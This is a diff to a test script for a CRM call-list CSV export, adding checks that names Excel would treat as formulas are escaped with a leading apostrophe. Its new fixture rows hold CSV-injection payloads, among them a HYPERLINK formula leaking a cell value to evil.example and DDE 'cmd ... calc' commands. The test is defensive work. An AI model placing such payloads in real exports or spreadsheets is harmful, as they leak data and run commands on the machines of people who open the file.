@@ -5,6 +5,8 @@
 #  - UTF-8 with a BOM: the file starts with EF BB BF, then the header; every
 #    name, one with a comma, a double quote and a line break included, reads
 #    back (Python's csv module, as Excel parses CSV) equal to the call list;
+#    a name or id that Excel would run as a formula (=, +, -, @, tab, CR
+#    first) reads back with an apostrophe before it, and no cell starts so;
 #    𠮷 and é survive; a ja_JP.SJIS client encoding changes nothing.
 #  - Shift_JIS: the bytes are code page 932 and read back equal, ① ㈱ 髙
 #    included; a name with a character outside it (𠮷) stops the export with
@@ -63,7 +65,16 @@ INSERT INTO crm.accounts VALUES
 	('C005', '①㈱髙島屋テスト'),
 	('C006', '佐藤工業 株式会社'),
 	('C007', '''引用符'' 商店'),
-	('C008', 'ナカムラ・ｶﾌﾞｼｷｶﾞｲｼｬ');
+	('C008', 'ナカムラ・ｶﾌﾞｼｷｶﾞｲｼｬ'),
+	-- names (and an id) that Excel would run as formulas: written with a
+	-- leading apostrophe, which makes the cell text
+	('C011', '=HYPERLINK("http://evil.example/?leak="&C3,"株式会社テスト")'),
+	('C012', '+cmd|'' /C calc''!A0'),
+	('C013', '-2+3+cmd|'' /C calc''!A0'),
+	('C014', '@SUM(1+1)*cmd|'' /C calc''!A0'),
+	('C015', E'\t=1+1'),
+	('C016', E'\r=1+1 商事'),
+	('=1+2', '数式のＩＤ商事');
 INSERT INTO crm.orders
 SELECT a.code, d::date, 500000 + 10000 * right(a.code, 1)::int
   FROM crm.accounts a, generate_series(date '2023-01-15', date '2025-07-15', interval '3 months') d;
@@ -83,10 +94,18 @@ want = json.load(open(want_path, encoding='utf-8')) or []
 text = raw.decode(encoding)
 rows = list(csv.reader(io.StringIO(text, newline='')))
 header, body = rows[0], rows[1:]
+# a text cell that Excel would take for a formula (OWASP, CSV injection:
+# first character = + - @ tab or carriage return) starts with an apostrophe
+def safe(v):
+    return "'" + v if v[:1] in ('=', '+', '-', '@', '\t', '\r') else v
 got = [(int(r[header.index('call_order')]), r[header.index('customer_id')], r[header.index('name')]) for r in body]
-exp = [(w['call_order'], w['customer_id'], w['name']) for w in want]
+exp = [(w['call_order'], safe(w['customer_id']), safe(w['name'])) for w in want]
 if got != exp:
     print('rows differ:\n got  %r\n want %r' % (got, exp))
+    sys.exit(1)
+unsafe = [c for r in body for c in r if c[:1] in ('=', '+', '-', '@', '\t', '\r')]
+if unsafe:
+    print('cells Excel would run as formulas: %r' % unsafe)
     sys.exit(1)
 print(len(got))
 PY
@@ -99,9 +118,9 @@ bom=$(head -c 3 "$work/call_list.csv" | od -An -tx1 | tr -d ' \n')
 header=$(head -1 "$work/call_list.csv" | tail -c +4)
 [ "$header" = "call_order,customer_id,name,state,likely_reason,approach_channel,message_theme,total_amount,last_order_at,data_gaps" ] &&
 	ok "the header names the columns" || fail "header: $header"
-listed=$(psql -X -q -At -d "$db" -c "SELECT count(*) FROM dormancy.call_list WHERE customer_id IN ('C001', 'C002', 'C003', 'C004', 'C005', 'C007', 'C008')")
-[ "$listed" = 7 ] && ok "the customers with difficult names are on the call list" ||
-	fail "only $listed of the 7 customers with difficult names are on the call list"
+listed=$(psql -X -q -At -d "$db" -c "SELECT count(*) FROM dormancy.call_list WHERE customer_id IN ('C001', 'C002', 'C003', 'C004', 'C005', 'C007', 'C008', 'C011', 'C012', 'C013', 'C014', 'C015', 'C016', '=1+2')")
+[ "$listed" = 14 ] && ok "the customers with difficult names are on the call list" ||
+	fail "only $listed of the 14 customers with difficult names are on the call list"
 if n=$(compare "$work/call_list.csv" utf-8-sig); then
 	ok "every row reads back as in the call list, names with comma, quote and line break whole ($n rows)"
 else
